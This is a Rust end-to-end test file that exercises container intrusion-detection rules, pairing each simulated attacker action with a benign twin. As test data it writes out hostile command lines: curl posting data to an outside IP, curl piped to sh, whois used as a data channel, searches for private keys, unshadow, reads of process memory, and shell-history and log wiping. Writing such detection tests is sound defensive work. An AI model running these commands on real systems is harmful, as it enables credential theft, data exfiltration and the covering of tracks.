//! The detections of issue 18 (`rules/mamori_rules_*.yaml` and the end of
//! `rules/mamori_stateful_rules.yaml`): what an intruder types inside a pod.
//! Stateless rules go through the [`Case`] table of `cases.rs` (renamed
//! `true` binaries for tools whose command line is the evidence, real
//! programs where an open is); stateful rules and the rules whose alert is
//! raised by another process than the one started get their own functions.
//! Each has a benign twin.

use std::process::Command;

use serde_json::Value;

use crate::cases::{case, run_case, At, Case};
use crate::container::FakeContainer;
use crate::harness::{run_bounded, run_ok, tool};
use crate::{field, text, Ctx};

pub(crate) const SECTOOL: &str = "Security Tool Enumeration in Container";
pub(crate) const LDAP: &str = "LDAP Directory Query Tool Launched";
pub(crate) const MODULES: &str = "Kernel Module Listing in Container";
pub(crate) const CRED_SEARCH: &str = "Credential Search by File Name or Content";
pub(crate) const HISTORY_READ: &str = "Shell History Read by Another Program";
pub(crate) const PROC_MEM: &str = "Process Memory Read via /proc";
pub(crate) const CRACK: &str = "Password Cracking Tool Launched";
pub(crate) const ENCRYPTED: &str = "Encrypted or Password-Protected Archive Created";
pub(crate) const SPLIT_ENCODE: &str = "Archive Split or Encoded for Transfer";
pub(crate) const DATA_SENT: &str = "Data Sent by curl or wget from Container";
pub(crate) const WEBHOOK: &str = "Webhook or File Drop Endpoint on Command Line";
pub(crate) const FILE_SERVER: &str = "Ad-hoc File Server Started in Container";
pub(crate) const PROXY_UA: &str = "HTTP Tool with Proxy or Browser User Agent in Container";
pub(crate) const DATA_CHANNEL: &str = "Network Utility Used as Data Channel in Container";
pub(crate) const PIPE_CMDLINE: &str = "Download or Decoded Blob Piped to Interpreter";
pub(crate) const TEMP_EXEC: &str = "Program Run from Temporary Directory in Container";
pub(crate) const SHELL_ESCAPE: &str = "Shell Spawned by Non-Shell Program in Container";
pub(crate) const HISTORY_CLEAR: &str = "Shell History Cleared or Disabled";
pub(crate) const LOG_WIPE: &str = "Log File Removed or Truncated";
pub(crate) const DISCOVERY_BURST: &str = "Discovery Burst in Container";
pub(crate) const HOST_SESSION_BURST: &str = "Discovery Burst in Host Shell Session";
pub(crate) const PING_SWEEP: &str = "Ping Sweep";
pub(crate) const STAGED: &str = "Files Staged in Temporary Directory";
pub(crate) const PIPED: &str = "Download Piped to Shell";
pub(crate) const PIPED_FIRST: &str = "Download Piped to Shell (Interpreter First)";

/// Case directories of this table start here (`cases.rs` uses 0..).
const FIRST_CASE: usize = 1000;

/// All of issue 18's scenarios; the two extra containers they used, to be
/// dropped once their kept processes are gone.
pub(crate) fn hands_on(cx: &mut Ctx, ctr: &FakeContainer) -> Vec<FakeContainer> {
    let d = cx.dir.join("h18");
    for (rel, body) in [
        ("home/.bash_history", "export AWS_SECRET_ACCESS_KEY=fake\n"),
        ("home/notes.txt", "nothing secret\n"),
        ("stage/loot.tgz", "not really gzip\n"),
    ] {
        let p = d.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, body).unwrap();
    }
    let mut victim = Command::new("sleep").arg("60").spawn().unwrap();
    let d_s = d.display().to_string();
    let mut cases = discovery_credential_cases(&d_s, victim.id());
    cases.extend(staging_exfil_cases(&d_s));
    cases.extend(execution_evasion_cases(&d_s));
    for (i, c) in cases.iter().enumerate() {
        run_case(cx, ctr, FIRST_CASE + i, c);
    }
    let _ = victim.kill();
    let _ = victim.wait();
    // awk's system() runs `sh -c exit 0`: the alert is the shell's.
    let cid = ctr.short_id().to_string();
    cx.expect_one("sh spawned by awk in a container", SHELL_ESCAPE, move |a| {
        field(a, "proc.pname") == "awk"
            && field(a, "proc.cmdline") == "sh -c exit 0"
            && field(a, "container.id") == cid
    });
    piped_to_shell(cx, &d_s);
    let extra = discovery_burst(cx, &d_s);
    host_session_burst(cx);
    ping_sweep(cx);
    staged_in_tmp(cx, &d_s);
    extra
}

fn discovery_credential_cases(d: &str, victim: u32) -> Vec<Case> {
    use At::{Container as C, Host as H};
    let leak = |s: String| -> &'static str { Box::leak(s.into_boxed_str()) };
    let history = leak(format!("{d}/home/.bash_history"));
    let notes = leak(format!("{d}/home/notes.txt"));
    let mem = leak(format!("/proc/{victim}/mem"));
    let maps = leak(format!("/proc/{victim}/maps"));
    vec![
        case(
            "grep for an EDR agent in a container",
            "grep",
            &["-i", "falcon"],
            C,
        )
        .fake()
        .fires(SECTOOL),
        case(
            "grep for errors in a container",
            "grep",
            &["-i", "error", "app.log"],
            C,
        )
        .fake()
        .quiet(&[SECTOOL]),
        case(
            "ldapsearch of a directory",
            "ldapsearch",
            &["-x", "-H", "ldap://10.0.0.10", "-b", "dc=corp,dc=local"],
            H,
        )
        .fake()
        .fires(LDAP),
        case("the slapd server", "slapd", &["-h", "ldap:///"], H)
            .fake()
            .quiet(&[LDAP]),
        case(
            "cat /proc/modules in a container",
            "/bin/cat",
            &["/proc/modules"],
            C,
        )
        .code(None)
        .fires(MODULES),
        case(
            "cat /proc/modules on the host",
            "/bin/cat",
            &["/proc/modules"],
            H,
        )
        .code(None)
        .quiet(&[MODULES]),
        case(
            "find for private keys",
            "find",
            &["/", "-name", "id_rsa*"],
            H,
        )
        .fake()
        .fires(CRED_SEARCH),
        case("find of python files", "find", &[".", "-name", "*.py"], H)
            .fake()
            .quiet(&[CRED_SEARCH]),
        case("cat of a bash history", "/bin/cat", &[history], H).fires(HISTORY_READ),
        case("cat of a note beside it", "/bin/cat", &[notes], H).quiet(&[HISTORY_READ]),
        case("cat of another process's memory", "/bin/cat", &[mem], H)
            .code(None)
            .fires(PROC_MEM),
        case("cat of another process's maps", "/bin/cat", &[maps], H).quiet(&[PROC_MEM]),
        case("unshadow", "unshadow", &["/etc/passwd", "/etc/shadow"], H)
            .fake()
            .fires(CRACK),
        case("sha256sum of passwd", "sha256sum", &["/etc/passwd"], H)
            .fake()
            .quiet(&[CRACK]),
    ]
}

fn staging_exfil_cases(d: &str) -> Vec<Case> {
    use At::{Container as C, Host as H};
    let leak = |s: String| -> &'static str { Box::leak(s.into_boxed_str()) };
    let tgz = leak(format!("{d}/stage/loot.tgz"));
    let notes = leak(format!("{d}/home/notes.txt"));
    let hook = "https://hooks.slack.com/services/T000/B000/XXXX";
    vec![
        case(
            "zip -e of a directory",
            "zip",
            &["-r", "-e", "loot.zip", "/data"],
            H,
        )
        .fake()
        .fires(ENCRYPTED),
        case("zip -r of a site", "zip", &["-r", "site.zip", "public/"], H)
            .fake()
            .quiet(&[ENCRYPTED]),
        case("base64 of an archive", "/usr/bin/base64", &[tgz], H).fires(SPLIT_ENCODE),
        case("base64 of a note", "/usr/bin/base64", &[notes], H).quiet(&[SPLIT_ENCODE]),
        case(
            "curl posting data out of a container",
            "curl",
            &[
                "-s",
                "-X",
                "POST",
                "--data",
                "root:x:0:0",
                "http://203.0.113.5/c",
            ],
            C,
        )
        .fake()
        .fires(DATA_SENT),
        case(
            "curl posting to the container itself",
            "curl",
            &["-s", "-d", "{}", "http://localhost:8080/ready"],
            C,
        )
        .fake()
        .quiet(&[DATA_SENT]),
        case("curl to a Slack webhook", "curl", &["-s", hook], H)
            .fake()
            .fires(WEBHOOK),
        case(
            "curl to an API",
            "curl",
            &["-s", "https://api.github.com/"],
            H,
        )
        .fake()
        .quiet(&[WEBHOOK]),
        case(
            "python http.server in a container",
            "python3",
            &["-m", "http.server"],
            C,
        )
        .fake()
        .fires(FILE_SERVER),
        case(
            "python http.server on the host",
            "python3",
            &["-m", "http.server"],
            H,
        )
        .fake()
        .quiet(&[FILE_SERVER]),
        case(
            "curl through a SOCKS proxy in a container",
            "curl",
            &["-x", "socks5h://10.0.0.9:1080", "http://203.0.113.5/"],
            C,
        )
        .fake()
        .fires(PROXY_UA),
        case(
            "plain curl in a container",
            "curl",
            &["-sS", "http://svc/"],
            C,
        )
        .fake()
        .quiet(&[PROXY_UA]),
        case(
            "whois to a chosen port in a container",
            "whois",
            &["-h", "203.0.113.5", "-p", "4444", "cm9vdA=="],
            C,
        )
        .fake()
        .fires(DATA_CHANNEL),
        case(
            "whois of a domain in a container",
            "whois",
            &["example.com"],
            C,
        )
        .fake()
        .quiet(&[DATA_CHANNEL]),
    ]
}

fn execution_evasion_cases(d: &str) -> Vec<Case> {
    use At::{Container as C, Host as H};
    let leak = |s: String| -> &'static str { Box::leak(s.into_boxed_str()) };
    let wipe = leak(format!(": > {d}/home/.bash_history"));
    let append = leak(format!("echo ls >> {d}/home/.bash_history"));
    let home = leak(format!("{d}/home"));
    vec![
        case(
            "curl piped to sh on a command line",
            "/bin/sh",
            &["-c", "curl -s -m 2 http://127.0.0.1:9/x | sh"],
            H,
        )
        .fires(PIPE_CMDLINE),
        case(
            "curl piped to grep on a command line",
            "/bin/sh",
            &["-c", "curl -s -m 2 http://127.0.0.1:9/x | grep up"],
            H,
        )
        .code(Some(1))
        .quiet(&[PIPE_CMDLINE]),
        case("a program in /tmp run in a container", "kdevtmpfsi", &[], C)
            .fake()
            .fires(TEMP_EXEC),
        case("a program in /tmp run on the host", "kdevtmpfsi", &[], H)
            .fake()
            .quiet(&[TEMP_EXEC]),
        case(
            "awk system() in a container",
            "/usr/bin/awk",
            &["BEGIN {system(\"exit 0\")}"],
            C,
        )
        .quiet(&[]),
        case(
            "find -exec sh -c in a container",
            "/usr/bin/find",
            &[home, "-maxdepth", "0", "-exec", "sh", "-c", "exit 0", ";"],
            C,
        )
        .quiet(&[SHELL_ESCAPE]),
        case(
            "history truncated by a redirection",
            "/bin/sh",
            &["-c", wipe],
            C,
        )
        .fires(HISTORY_CLEAR),
        case("history appended to", "/bin/sh", &["-c", append], C).quiet(&[HISTORY_CLEAR]),
        case(
            "bash unsetting HISTFILE",
            "/bin/bash",
            &["-c", "unset HISTFILE; true"],
            C,
        )
        .fires(HISTORY_CLEAR),
        case(
            "rm of a log file",
            "/bin/rm",
            &["-f", "/var/log/mamori-e2e-absent.log"],
            C,
        )
        .fires(LOG_WIPE),
        case(
            "rm of a temp file",
            "/bin/rm",
            &["-f", "/tmp/mamori-e2e-absent.log"],
            C,
        )
        .quiet(&[LOG_WIPE]),
    ]
}

/// `curl | sh` typed in a script (no command line shows the pipeline): one
/// of the two sequence rules fires, whichever end of the pipe exec'd first;
/// `curl -o file; sh file` does not.
fn piped_to_shell(cx: &mut Ctx, d: &str) {
    let typed = format!("{d}/fetch.sh");
    std::fs::write(&typed, "curl -s -m 2 http://127.0.0.1:9/x | sh\n").unwrap();
    let saved = format!("{d}/save.sh");
    std::fs::write(
        &saved,
        format!("curl -s -m 2 -o {d}/x.sh http://127.0.0.1:9/x; sh {d}/x.sh; true\n"),
    )
    .unwrap();
    let mut c = Command::new("sh");
    c.arg(&typed);
    let (sh, _) = run_bounded(c);
    let piped = move |a: &Value| {
        (a["rule"] == PIPED || a["rule"] == PIPED_FIRST) && text(a, "proc.ppid") == sh.to_string()
    };
    wait_any(cx, &piped);
    cx.checks.push(crate::Check {
        what: "curl | sh typed in a script".into(),
        n: 1,
        pred: Box::new(piped),
    });
    let mut c = Command::new("sh");
    c.arg(&saved);
    let (sh_saved, _) = run_ok(c);
    cx.twin("curl -o then sh of the file", move |a| {
        (a["rule"] == PIPED || a["rule"] == PIPED_FIRST)
            && text(a, "proc.ppid") == sh_saved.to_string()
    });
}

/// Wait (bounded) for an alert matching `pred`.
fn wait_any(cx: &mut Ctx, pred: &dyn Fn(&Value) -> bool) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        cx.alerts.0.poll();
        if cx.alerts.0.items.iter().any(pred) {
            return;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no alert; all so far: {:#?}",
            cx.alerts.0.items
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

/// Five discovery commands from a shell in a fresh container fire one
/// burst; the same commands run by an entrypoint script in another do not.
fn discovery_burst(cx: &mut Ctx, d: &str) -> Vec<FakeContainer> {
    let cmds = "id; uname -a; cat /etc/passwd; ps aux; ip route; true";
    let burst = FakeContainer::create(2);
    let run = burst.spawn("sh", &["-c", cmds]);
    assert_eq!(run.code, Some(0));
    let cid = burst.short_id().to_string();
    let a = cx.expect_one("five discovery commands in a container", DISCOVERY_BURST, {
        let cid = cid.clone();
        move |a| field(a, "container.id") == cid
    });
    assert_eq!(text(&a, "threshold.count"), "4", "{a:#}");
    assert!(field(&a, "threshold.values").contains("uname -a"), "{a:#}");
    cx.keep.push(run);
    let entry = format!("{d}/docker-entrypoint.sh");
    std::fs::write(&entry, format!("{cmds}\n")).unwrap();
    let quiet = FakeContainer::create(3);
    let run = quiet.spawn("sh", &[&entry]);
    assert_eq!(run.code, Some(0));
    cx.keep.push(run);
    let qid = quiet.short_id().to_string();
    cx.twin("the same commands from an entrypoint script", move |a| {
        a["rule"] == DISCOVERY_BURST && field(a, "container.id") == qid
    });
    vec![burst, quiet]
}

/// Seven discovery commands typed at a terminal on the node (a pty from
/// script(1), as an ssh session has) fire one host-session burst, keyed on
/// the oldest shell above them; the same commands run without a terminal
/// (a provisioning script) do not.
fn host_session_burst(cx: &mut Ctx) {
    let cmds = |marker: &str| {
        format!(
            "getent hosts {marker}; id; uname -a; hostname; cat /etc/passwd; ip addr; findmnt; true"
        )
    };
    let st = Command::new("script")
        .args([
            "-qec",
            &format!("sh -c '{}'", cmds("mamori-tty-session")),
            "/dev/null",
        ])
        .stdout(std::process::Stdio::null())
        .status()
        .expect("script(1) from bsdutils");
    assert!(st.success(), "the commands ran under a pty");
    let a = cx.expect_one(
        "seven discovery commands at a terminal on the node",
        HOST_SESSION_BURST,
        |a| field(a, "threshold.values").contains("mamori-tty-session"),
    );
    assert_eq!(text(&a, "threshold.count"), "6", "{a:#}");
    let f = &a["output_fields"];
    assert!(f["proc.tty"].as_u64().is_some_and(|t| t > 0), "{a:#}");
    assert!(f["proc.loginshellid"].as_u64().is_some(), "{a:#}");
    let mut c = Command::new("sh");
    c.args(["-c", &cmds("mamori-no-tty-script")]);
    run_ok(c);
    cx.twin("the same commands from a script without a terminal", |a| {
        a["rule"] == HOST_SESSION_BURST
            && field(a, "threshold.values").contains("mamori-no-tty-script")
    });
}

/// A shell pinging 10 addresses (a renamed `true`) fires one sweep; 10
/// pings of one host do not.
fn ping_sweep(cx: &mut Ctx) {
    let dir = cx.dir.join("ping");
    std::fs::create_dir_all(&dir).unwrap();
    let ping = tool(&dir, "ping", "/bin/true").display().to_string();
    let sweep = "for i in $(seq 1 10); do \"$0\" -c1 -W1 \"10.0.0.$i\"; done";
    let mut c = Command::new("sh");
    c.args(["-c", sweep, &ping]);
    let (sh, _) = run_ok(c);
    let a = cx.expect_one(
        "ping of 10 addresses from one shell",
        PING_SWEEP,
        move |a| text(a, "proc.ppid") == sh.to_string(),
    );
    assert_eq!(text(&a, "threshold.count"), "8", "{a:#}");
    let same = "for i in $(seq 1 10); do \"$0\" -c1 -W1 10.0.0.1; done";
    let mut c = Command::new("sh");
    c.args(["-c", same, &ping]);
    let (sh_same, _) = run_ok(c);
    cx.twin("ping of one host 10 times", move |a| {
        a["rule"] == PING_SWEEP && text(a, "proc.ppid") == sh_same.to_string()
    });
}

/// `cp -r` of 30 files into a temp directory fires; of 10 files does not.
fn staged_in_tmp(cx: &mut Ctx, d: &str) {
    for (name, n) in [("many", 30), ("few", 10)] {
        let src = format!("{d}/src-{name}");
        std::fs::create_dir_all(&src).unwrap();
        for i in 0..n {
            std::fs::write(format!("{src}/f-{i}"), "x").unwrap();
        }
    }
    let copy = |name: &str| {
        let mut c = Command::new("sh");
        c.args(["-c", "cp -r \"$0\" \"$1\""])
            .arg(format!("{d}/src-{name}"))
            .arg(format!("{d}/.stage-{name}"));
        run_ok(c).0
    };
    let sh = copy("many");
    let a = cx.expect_one("cp -r of 30 files into /tmp", STAGED, move |a| {
        text(a, "proc.ppid") == sh.to_string()
    });
    assert!(
        field(&a, "fd.name").starts_with(&format!("{d}/.stage-many/")),
        "{a:#}"
    );
    let sh_few = copy("few");
    cx.twin("cp -r of 10 files into /tmp", move |a| {
        a["rule"] == STAGED && text(a, "proc.ppid") == sh_few.to_string()
    });
}
